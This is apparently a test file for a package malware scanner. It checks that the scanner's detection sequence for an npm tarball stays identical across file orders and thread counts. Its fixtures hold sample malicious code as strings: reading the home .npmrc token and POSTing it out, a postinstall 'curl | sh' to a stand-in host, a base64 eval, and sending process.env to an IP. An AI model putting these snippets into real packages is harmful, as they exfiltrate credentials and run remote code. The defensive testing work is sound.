/** One archive, one sequence: whatever the order of its files, the number of threads, and what is read beside it. */
import assert from 'node:assert/strict';
import { createScanner } from '../../lib/scan.js';
import { makeTarball } from '../helpers/tarball.js';

/** Reads for real; only the model is left out. */
const MODULE = new URL('../bench/reading-worker.js', import.meta.url);

const manifest = (main: string): string =>
  JSON.stringify({
    name: 'fixture',
    version: '1.0.0',
    main,
    bin: { b: 'bin.js' },
    scripts: { postinstall: 'sh x.sh' },
  });

const PACKAGES: readonly Readonly<Record<string, string>>[] = [
  {
    'package.json': manifest('index.js'),
    'index.js': "const a = require('./a');\nmodule.exports = { ...a, b: require('./b') };",
    'a.js': "exports.home = () => require('fs').readFileSync(require('os').homedir() + '/.npmrc');",
    'b.js':
      "const { home } = require('./a');\nfetch('https://host.invalid', { method: 'POST', body: home() });",
    'bin.js': "#!/usr/bin/env node\nrequire('child_process').exec('whoami');",
    'x.sh': 'whoami\ncurl -s https://host.invalid/x | sh\n',
    'unused/z.js': "require('child_process').spawn(process.env.TOOL);",
    'unused/y.js': "eval(Buffer.from('Zigp', 'base64').toString());",
  },
  {
    'package.json': manifest('gone.js'),
    'lib/one.js': "import('./two.js').then((m) => m.run(process.env));",
    'lib/two.js':
      "export function run(e) { return fetch('http://198.51.100.7', { method: 'POST', body: JSON.stringify(e) }); }",
  },
];

const reversed = (files: Readonly<Record<string, string>>): Record<string, string> =>
  Object.fromEntries(Object.entries(files).reverse());
const rotated = (files: Readonly<Record<string, string>>): Record<string, string> => {
  const entries = Object.entries(files);
  return Object.fromEntries([...entries.slice(3), ...entries.slice(0, 3)]);
};

type Order = (files: Readonly<Record<string, string>>) => Record<string, string>;

/** Sequences of the packages, archived in each of these orders, all given at once. */
async function sequences(threads: number, orders: readonly Order[]): Promise<string[][]> {
  const scanner = await createScanner({ module: MODULE, threads, sequences: true });
  try {
    return await Promise.all(
      orders.map((order) =>
        Promise.all(
          PACKAGES.map(async (files) => {
            const bytes = makeTarball(order(files));
            const verdict = await scanner.scan({ ecosystem: 'npm', filename: 'fixture-1.0.0.tgz', bytes });
            return JSON.stringify(verdict.sequence);
          }),
        ),
      ),
    );
  } finally {
    await scanner.close();
  }
}

describe('the sequence of an archive', () => {
  it('is the same byte for byte: five runs, one and three threads, three orders of its files', async () => {
    const [first, ...others] = [
      ...(await sequences(1, [(files) => ({ ...files }), reversed])),
      ...(await sequences(3, [rotated, (files) => ({ ...files }), reversed])),
    ];
    for (const text of first!) assert.match(text, /"code":"(?:http-send|read-registry-token)"/);
    assert.equal(others.length, 4);
    for (const other of others) assert.deepEqual(other, first);
  }).timeout(180_000);
});
